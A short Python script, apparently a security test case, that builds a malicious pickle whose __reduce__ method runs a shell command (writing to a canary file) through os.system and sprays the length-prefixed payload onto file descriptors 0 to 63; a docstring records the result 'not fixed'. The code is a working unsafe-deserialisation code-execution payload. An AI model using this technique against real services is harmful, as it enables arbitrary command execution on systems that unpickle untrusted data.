"""Sends a pickle that would write to a file where it is loaded.

verdict: not fixed
because: broke the protocol
"""

import os
import pickle
import struct


class Command:
    def __reduce__(self):
        return os.system, ("echo gone > @CANARY@",)


message = pickle.dumps(Command())
for descriptor in range(64):
    try:
        os.write(descriptor, struct.pack("<I", len(message)) + message)
    except OSError:
        pass
